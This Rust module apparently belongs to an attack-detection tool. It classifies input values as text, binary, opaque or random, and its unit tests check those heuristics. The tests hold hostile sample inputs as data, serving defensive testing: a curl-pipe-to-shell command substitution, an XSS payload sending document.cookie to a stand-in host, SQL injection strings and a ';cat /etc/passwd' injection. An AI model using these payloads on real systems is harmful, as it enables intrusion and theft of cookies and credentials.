//! The texture of a value: text, binary data, or opaque characters that no interpreter reads.

/// Shorter values are no texts that quote something.
const MIN_TEXT_BYTES: usize = 60;
const MIN_TEXT_WORDS: usize = 10;
/// Shorter values may hold odd bytes as a disguise.
const MIN_BINARY_BYTES: usize = 64;
/// Shorter values have too few characters to distinguish random ones from code.
const MIN_OPAQUE_BYTES: usize = 48;
/// Kinds of punctuation in an opaque value: code and markup use fewer.
const MIN_OPAQUE_MARKS: u32 = 14;
/// Different bytes in random data as short as an opaque value; padding repeats fewer.
const MIN_RANDOM_BYTES: u32 = 32;
/// Letters in a row that count as a word.
const MIN_WORD: usize = 4;
/// Consonants in a row in a word; shifted and other encrypted letters have more.
const MAX_CONSONANTS: usize = 4;

/// Whether a value has the words of a text, not only a payload.
pub(super) fn is_text(value: &[u8]) -> bool {
    let is_word = |word: &&[u8]| word.iter().any(|byte| byte.is_ascii_alphabetic() || !byte.is_ascii());
    value.len() >= MIN_TEXT_BYTES
        && value.split(u8::is_ascii_whitespace).filter(is_word).nth(MIN_TEXT_WORDS - 1).is_some()
}

/// Whether one byte in ten is no text.
pub(super) fn is_binary(value: &[u8]) -> bool {
    if value.len() < MIN_BINARY_BYTES {
        return false;
    }
    let controls = value.iter().filter(|&&it| it < b' ' && !matches!(it, b'\t' | b'\r' | b'\n')).count();
    let invalid = || value.utf8_chunks().map(|chunk| chunk.invalid().len()).sum::<usize>();
    let invalid = if std::str::from_utf8(value).is_ok() { 0 } else { invalid() };
    10 * (controls + invalid) > value.len()
}

/// Whether the characters of a value look random: signatures, encrypted texts, sensor data. An attack
/// in random padding has words of its own.
pub(super) fn is_opaque(value: &[u8]) -> bool {
    value.len() >= MIN_OPAQUE_BYTES
        && !has_words(value, value.len().div_ceil(8))
        && marks(value) >= MIN_OPAQUE_MARKS
}

/// Whether a match has the words of a command, a query or an address.
pub(super) fn has_words_of_attack(matched: &[u8]) -> bool {
    has_words(matched, matched.len() / 5 + 1)
}

/// Whether a value has many different bytes, and not only punctuation: more than padding has.
pub(super) fn is_random(value: &[u8]) -> bool {
    let mut seen = [0_u128; 2];
    for &byte in value {
        seen[usize::from(byte >> 7)] |= 1 << (byte & 0x7F);
    }
    let marks = value.iter().filter(|byte| byte.is_ascii_punctuation()).count();
    seen[0].count_ones() + seen[1].count_ones() >= MIN_RANDOM_BYTES && 5 * marks <= 3 * value.len()
}

/// The number of different punctuation characters.
fn marks(value: &[u8]) -> u32 {
    let marks = value.iter().filter(|byte| byte.is_ascii_punctuation());
    marks.fold(0_u128, |seen, byte| seen | 1 << byte).count_ones()
}

/// Whether this number of bytes is in words: letters of one case, the first of any case, with vowels.
fn has_words(value: &[u8], bytes: usize) -> bool {
    let is_word = |run: &&[u8]| {
        let is_one_case =
            run[1..].iter().all(u8::is_ascii_lowercase) || run.iter().all(u8::is_ascii_uppercase);
        let mut consonants = run.split(|byte| b"aeiouyAEIOUY".contains(byte));
        is_one_case && consonants.all(|it| it.len() <= MAX_CONSONANTS)
    };
    let runs = value.split(|byte| !byte.is_ascii_alphabetic()).filter(|run| run.len() >= MIN_WORD);
    let mut missing = bytes;
    runs.filter(is_word).any(|run| {
        missing = missing.saturating_sub(run.len());
        missing == 0
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn random_characters_are_opaque() {
        let value = br#"2.0_Jk/v+8tX=aYo|T%Q{#z"k'l;b>Q1&u@w(9)xG!r?m$Zp,4^"#;
        assert!(is_opaque(value) && !has_words_of_attack(b"'l;b"));
        assert!(!is_opaque(&value[..30]));
        assert!(is_random(value));
        assert!(!is_random(&b"!#$%&()*+,-./:;<=>?@[]^_{|}~".repeat(4)));
        assert!(!is_random(&[[0x0B; 60].as_slice(), b"$(curl http://a.example/x|sh)"].concat()));
    }

    #[test]
    fn attacks_and_code_are_not_opaque() {
        for value in [
            "' union select 1,2,3,concat(user(),0x3a,database()),5 from users-- -",
            "<img src=x onerror=\"fetch('//a.example/?'+document.cookie)\">; {[(!@#$%^&*)]}",
            "for (const [k, v] of Object.entries(x)) { if (k !== 'a' && v > 3) y[k] += `${v}`; }",
        ] {
            assert!(!is_opaque(value.as_bytes()), "{value}");
        }
        assert!(has_words_of_attack(b";cat /etc/passwd"));
    }

    #[test]
    fn bytes_that_are_no_text_are_binary() {
        assert!(is_binary(&[b"PK\x03\x04".as_slice(), &[0x80; 80]].concat()));
        assert!(!is_binary("Grüße aus Köln, \u{6771}\u{4eac}\n".repeat(4).as_bytes()));
        assert!(!is_binary(b"\x00' or 1=1"));
    }

    #[test]
    fn a_text_has_words() {
        assert!(is_text(b"The quick brown fox jumps over the lazy dog, again and again, all day long."));
        assert!(!is_text(b"<script>alert(document.cookie)</script><script>alert(document.cookie)</script>"));
    }
}
